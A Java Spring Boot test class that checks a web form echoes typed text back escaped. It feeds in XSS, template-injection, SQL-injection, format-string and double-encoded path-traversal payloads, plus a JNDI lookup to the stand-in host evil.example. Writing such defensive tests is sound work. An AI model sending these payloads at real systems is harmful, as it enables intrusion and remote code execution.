package by.pobach.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.web.util.HtmlUtils;

/** Whatever somebody types is text: it comes back as it was typed, and nothing reads it as anything else. */
@InOpenHouse
class TypedTextTests {
    @LocalServerPort
    int port;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"><script>alert(1)</script>",
                "' onmouseover='alert(1)",
                "<img src=x onerror=alert(1)>",
                "${7*7}",
                "__${7*7}__",
                "*{7*7} #{web.skip} @{/x} ~{web/frame}",
                "[[${7*7}]] [(${7*7})]",
                "__${T(java.lang.Runtime).getRuntime()}__::.x",
                "{0} {1,number} '{'",
                "%s %n %d %1$s",
                "$1 \\1 $0",
                "${jndi:ldap://evil.example/a}",
                "-- ' or '1'='1",
                "&lt;b&gt; &amp;",
                "</textarea></form>"
            })
    void what_was_typed_stands_in_the_field_again_and_nowhere_else(String typed) {
        String page = outside()
                .sendsForm("/visit", "code=B&contact=" + encoded(typed))
                .body();

        assertThat(page)
                .contains("value=\"" + HtmlUtils.htmlEscape(typed, "UTF-8").replace("&#39;", "&#39;") + "\"");
        assertThat(page).doesNotContain("<script>alert", "<img src=x", "onmouseover='", "</textarea></form>\"");
        assertThat(page.replace("7*7", "")).doesNotContain("49\"");
    }

    @Test
    void what_is_encoded_twice_is_decoded_once() {
        assertThat(outside().opens("/probe/said?text=%253Cb%253E%2541").body()).isEqualTo("%3Cb%3E%41");
        assertThat(outside().sendsForm("/visit", "code=B&contact=%2526lt%253B").body())
                .contains("value=\"%26lt%3B\"");
        assertThat(outside().opens("/static/%252e%252e/application.yaml").statusCode())
                .isIn(400, 404);
    }

    @Test
    void a_field_that_is_said_twice_is_not_taken_for_another() {
        assertThat(outside().opens("/?lang=ru&lang=en").body()).contains("<html lang=\"ru\"");
        assertThat(outside().sendsForm("/look?lang=be", "lang=en").headers().allValues("Set-Cookie"))
                .anyMatch(cookie -> cookie.startsWith("lang=be"))
                .noneMatch(cookie -> cookie.startsWith("lang=en"));
        assertThat(outside()
                        .sendsForm("/look?size=large", "size=huge&size=larger")
                        .headers()
                        .firstValue("Set-Cookie"))
                .hasValueSatisfying(cookie -> assertThat(cookie).containsOnlyOnce("size-"));
    }

    private static String encoded(String typed) {
        return URLEncoder.encode(typed, StandardCharsets.UTF_8);
    }

    private Outside outside() {
        return new Outside(port);
    }
}
